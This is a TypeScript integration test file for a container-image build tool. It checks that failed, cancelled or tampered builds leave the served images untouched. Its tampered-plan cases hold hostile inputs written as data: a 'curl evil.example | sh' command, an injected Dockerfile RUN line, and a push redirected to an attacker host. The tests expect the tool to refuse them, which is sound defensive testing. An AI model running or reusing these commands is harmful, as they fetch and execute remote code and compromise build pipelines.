/**
 * Nothing the platform serves is lost by a failed, cancelled or tampered run: each image keeps the
 * build it serves (url, recipe, build time, log) apart from its latest attempt. Real buildah
 * builds, a real registry, real git clones; the matrix flow as the reference workflow runs it.
 */
import { readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { seedDebianBase } from "../../scripts/debian-base.mjs";
import type { PulledCatalog, PublishedCatalog } from "../../src/catalog/index.js";
import { parseImageReference } from "../../src/grammars/image-ref.js";
import { createRegistry } from "../../src/registry/client.js";
import type { Plan } from "../../src/stages/plan/index.js";
import { imagesmith, startImagesmith, waitForOutput } from "../helpers/cli.js";
import { clone, commit, git, gitRepository, temp } from "../helpers/git.js";
import { imageIn, servedAt } from "../helpers/published.js";
import { startRegistry, type TestRegistry } from "../helpers/registry.js";

let registry: TestRegistry;
let bases: { plain: string; withUser: string };

beforeAll(async () => {
  registry = await startRegistry();
  bases = await seedDebianBase(registry.host);
}, 900_000);

afterAll(async () => {
  await registry?.stop();
});

function config(prefix: string): string {
  return `registry: ${registry.host}/${prefix}\ninsecureRegistries: [${registry.host}]\npullSecret: our-registry\n`;
}

function definition(name: string, apt: string, base = bases.plain): string {
  return `displayName: ${name}\nbuild:\n  baseImage: ${base}\n  packages:\n    apt: [${apt}]\nglobal: true\n`;
}

const servedNow = (prefix: string) => servedAt(registry.host, prefix);
const image = imageIn;

async function run(origin: string, url: string, ...extra: string[]) {
  const workspace = await clone(origin, url);
  return { workspace, ...(await imagesmith(["run", "--root", workspace, ...extra])) };
}

/** The tags of a repository in the registry (none when it does not exist). */
async function tags(repository: string): Promise<string[]> {
  const response = await fetch(`${registry.url}/v2/${repository}/tags/list`);
  if (response.status === 404) return [];
  return ((await response.json()) as { tags: string[] | null }).tags ?? [];
}

describe("a rebuild that fails, then a revert", () => {
  const url = "https://example.invalid/acme/failing.git";
  let origin: string;
  let good: PublishedCatalog["images"][number];

  beforeAll(async () => {
    origin = await gitRepository(url);
    await commit(origin, {
      "imagesmith.yaml": config("failing"),
      "images/tools.yaml": definition("tools", "hello"),
    });
    const first = await run(origin, url);
    expect(first.code, first.err).toBe(0);
    good = image((await servedNow("failing")).catalog, "tools");
  });

  it("keeps serving the last good build, its recipe, build time and log untouched, with the failed attempt beside it", async () => {
    await commit(origin, {
      "images/tools.yaml": definition("tools", "hello, no-such-package-imagesmith"),
    });

    const failed = await run(origin, url);
    const logs = await imagesmith(["logs", "tools", "--root", failed.workspace]);
    const attempt = await imagesmith(["logs", "tools", "--attempt", "--root", failed.workspace]);

    expect(failed.code).toBe(1);
    const tools = image((await servedNow("failing")).catalog, "tools");
    expect(tools).toMatchObject({
      status: "failed",
      url: good.url,
      urlForGpu: good.urlForGpu,
      pullSecret: "our-registry",
      build: good.build,
    });
    expect(tools.build?.builtAt).toBeDefined();
    expect(tools.attempt).toMatchObject({ status: "failed" });
    expect(tools.attempt?.recipeHash).not.toBe(good.build?.recipeHash);
    expect(tools.attempt?.error).toContain("no-such-package-imagesmith");
    expect(tools.attempt?.log).toBe(`.imagesmith/logs/tools/${tools.attempt?.recipeHash}.log`);
    expect(tools.message).toContain("the rebuild failed");
    // This checkout did not build the served image: logs says where its log is.
    expect(logs.code).toBe(1);
    expect(logs.err).toContain(`no build log for tools in this checkout (${good.build?.log})`);
    expect(attempt.out).toContain("no-such-package-imagesmith");
  });

  it("plans the revert as a recovery, no build, and publishes it ready with the served build as it was", async () => {
    await git(origin, "revert", "--no-edit", "HEAD");
    const workspace = await clone(origin, url);

    const plan = JSON.parse(
      (await imagesmith(["plan", "--root", workspace, "--format", "json"])).out,
    ) as Plan;
    const reverted = await imagesmith(["run", "--root", workspace]);

    expect(plan.images[0]).toMatchObject({
      name: "tools",
      action: "update",
      reasons: ["status-changed"],
      changes: [{ field: "status", before: "failed", after: "ready" }],
    });
    expect(reverted.code, reverted.err).toBe(0);
    expect(reverted.out).not.toMatch(/\[tools\] /);
    expect(image((await servedNow("failing")).catalog, "tools")).toEqual(good);
  });
});

describe("a cancelled run and a cancelled matrix unit", () => {
  const url = "https://example.invalid/acme/cancel.git";
  let origin: string;
  let before: PulledCatalog;

  beforeAll(async () => {
    origin = await gitRepository(url);
    await commit(origin, {
      "imagesmith.yaml": config("cancel"),
      "images/slow.yaml": definition("slow", "hello"),
    });
    const first = await run(origin, url);
    expect(first.code, first.err).toBe(0);
    before = await servedNow("cancel");
    await commit(origin, {
      "images/slow.yaml": definition("slow", "hello, python3-pip, sqlite3"),
    });
  });

  it("publishes nothing when a run is cancelled", async () => {
    const workspace = await clone(origin, url);
    // --force: the apt step runs even when an earlier run left it in the local layer cache.
    const started = startImagesmith(["run", "--root", workspace, "--verbose", "--force", "slow"]);
    await waitForOutput(started.output, /\[slow\] .*(Get:|Hit:|Reading)/);

    started.child.kill("SIGTERM");
    const cancelled = await started.done;

    expect(cancelled.code).toBe(143);
    expect(cancelled.err).toContain("cancelled: nothing was published");
    expect((await servedNow("cancel")).digest).toBe(before.digest);
  });

  it("records a cancelled unit's image as cancelled on publish, still serving its last good build", async () => {
    const unit = await clone(origin, url);
    const results = await temp("imagesmith-results-");
    const started = startImagesmith([
      "build",
      "--root",
      unit,
      "--unit",
      "unit-1",
      "--result-file",
      join(results, "unit-1.json"),
      "--verbose",
      "--force",
      "slow",
    ]);
    await waitForOutput(started.output, /\[slow\] .*(Get:|Hit:|Reading)/);
    started.child.kill("SIGINT");
    const cancelled = await started.done;

    const published = await imagesmith([
      "publish",
      "--root",
      await clone(origin, url),
      "--results",
      results,
    ]);

    expect(cancelled.code).toBe(130);
    expect(published.code, published.err).toBe(0);
    const served = image((await servedNow("cancel")).catalog, "slow");
    const was = image(before.catalog, "slow");
    expect(served).toMatchObject({ status: "cancelled", url: was.url, build: was.build });
    expect(served.attempt).toMatchObject({ status: "cancelled" });
  });
});

describe("a plan file edited after it was made", () => {
  const url = "https://example.invalid/acme/tamper.git";
  let workspace: string;
  let plan: Plan;

  beforeAll(async () => {
    const origin = await gitRepository(url);
    await commit(origin, {
      "imagesmith.yaml": config("tamper"),
      "images/tools.yaml": definition("tools", "hello", bases.withUser),
    });
    workspace = await clone(origin, url);
    const planned = await imagesmith(["plan", "--root", workspace, "--format", "json"]);
    expect(planned.code, planned.err).toBe(0);
    plan = JSON.parse(planned.out) as Plan;
  });

  async function tampered(name: string, change: (entry: Plan["images"][number]) => void) {
    const copy = structuredClone(plan);
    const entry = copy.images.find((e) => e.name === "tools");
    if (!entry) throw new Error("tools is not in the plan");
    change(entry);
    const file = join(await temp("imagesmith-plan-"), `${name}.json`);
    await writeFile(file, JSON.stringify(copy));
    return file;
  }

  it.each([
    [
      "an extra RUN in the Dockerfile",
      (entry: Plan["images"][number]) => {
        entry.dockerfile = (entry.dockerfile ?? "").replace(
          "USER root\n",
          'USER root\nRUN ["/bin/sh", "-c", "echo pwned > /etc/motd"]\n',
        );
      },
      "tools: its Dockerfile differs at line",
    ],
    [
      "a push reference outside the catalog's registry",
      (entry: Plan["images"][number]) => {
        entry.ref = entry.ref.replace(registry.host, "evil.example");
      },
      "tools: it pushes to evil.example/tamper/tools:",
    ],
    [
      "another FROM",
      (entry: Plan["images"][number]) => {
        if (entry.base) entry.base.from = entry.base.from.replace("debian", "other");
      },
      "tools: it builds FROM",
    ],
    [
      "the base's user dropped, so the image would run as root",
      (entry: Plan["images"][number]) => {
        if (entry.base) delete entry.base.user;
      },
      "tools: it restores the user root",
    ],
    [
      "a recipe hash and reference made to agree with an edited Dockerfile",
      (entry: Plan["images"][number]) => {
        entry.recipeHash = "0123456789abcdef";
        entry.ref = `${registry.host}/tamper/tools:0123456789abcdef`;
      },
      "tools: its recipe hash is 0123456789abcdef",
    ],
    [
      "an unknown field",
      (entry: Plan["images"][number]) => {
        (entry as unknown as Record<string, unknown>).script = "curl evil.example | sh";
      },
      'it does not match schemas/plan.schema.json: /images/0: unknown field "script"',
    ],
  ])(
    "refuses to build a plan with %s, building and pushing nothing",
    async (name, change, message) => {
      const file = await tampered(name.replace(/\W+/g, "-"), change);

      const build = await imagesmith(["build", "--root", workspace, "--plan", file]);

      expect(build.code).toBe(1);
      expect(build.err).toContain(`the plan ${file} cannot be used: ${message}`);
      expect(build.out).not.toMatch(/\[tools\] /);
      expect(await tags("tamper/tools")).toEqual([]);
    },
  );

  it("refuses a plan made at another commit", async () => {
    const other = structuredClone(plan);
    other.source.commit = "0".repeat(40);
    const file = join(await temp("imagesmith-plan-"), "other.json");
    await writeFile(file, JSON.stringify(other));

    const build = await imagesmith(["build", "--root", workspace, "--plan", file]);

    expect(build.code).toBe(1);
    expect(build.err).toContain(`it was made at commit ${"0".repeat(40)}, and this checkout is at`);
  });
});

describe("the matrix flow: plan, build units from the plan file, publish their results", () => {
  it("publishes the unit that built and keeps the failed unit's image serving its last good build", async () => {
    const url = "https://example.invalid/acme/matrix.git";
    const origin = await gitRepository(url);
    await commit(origin, {
      "imagesmith.yaml": config("matrix"),
      "images/a.yaml": definition("a", "hello"),
      "images/b.yaml": definition("b", "hello", bases.withUser),
    });
    const first = await run(origin, url);
    expect(first.code, first.err).toBe(0);
    const before = (await servedNow("matrix")).catalog;
    await commit(origin, {
      "images/a.yaml": definition("a", "hello, tree"),
      "images/b.yaml": definition("b", "hello, no-such-package-imagesmith", bases.withUser),
    });
    // The plan job: the plan file and the matrix, from one plan.
    const planner = await clone(origin, url);
    const planFile = join(await temp("imagesmith-plan-artifact-"), "plan.json");
    const planned = await imagesmith([
      "plan",
      "--root",
      planner,
      "--format",
      "json",
      "--out",
      planFile,
    ]);
    const matrix = JSON.parse(
      (await imagesmith(["plan", "--root", planner, "--format", "matrix"])).out,
    ) as { include: { unit: string; images: string }[] };
    const results = await temp("imagesmith-results-");

    const units = [];
    for (const entry of matrix.include) {
      const runner = await clone(origin, url);
      units.push(
        await imagesmith([
          "build",
          "--root",
          runner,
          "--plan",
          planFile,
          "--only",
          entry.images,
          "--unit",
          entry.unit,
          "--result-file",
          join(results, entry.unit, `${entry.unit}.json`),
        ]),
      );
    }
    const publish = await imagesmith([
      "publish",
      "--root",
      await clone(origin, url),
      "--results",
      results,
    ]);

    expect(planned.code, planned.err).toBe(0);
    expect(matrix.include.map((e) => e.images).sort()).toEqual(["a", "b"]);
    expect(units.map((u) => u.code).sort()).toEqual([0, 1]);
    for (const unit of units) expect(unit.err).toContain("the published catalog is unchanged");
    expect(publish.code, publish.err).toBe(0);
    const after = (await servedNow("matrix")).catalog;
    expect(image(after, "a")).toMatchObject({ status: "ready" });
    expect(image(after, "a").url).not.toBe(image(before, "a").url);
    expect(image(after, "a").build?.builtAt).toBeDefined();
    expect(image(after, "b")).toMatchObject({
      status: "failed",
      url: image(before, "b").url,
      build: image(before, "b").build,
      attempt: { status: "failed" },
    });
    expect(image(after, "b").attempt?.error).toContain("no-such-package-imagesmith");
    // The built image really is the one the catalog pins.
    const ref = parseImageReference(image(after, "a").url ?? "");
    if (!ref.ok) throw new Error("a's url does not parse");
    const client = createRegistry({ insecureRegistries: [registry.host] });
    expect((await client.getManifest(ref.value)).digest).toBe(ref.value.digest);
    expect(JSON.parse(await readFile(planFile, "utf8"))).toMatchObject({ kind: "Plan" });
  });
});
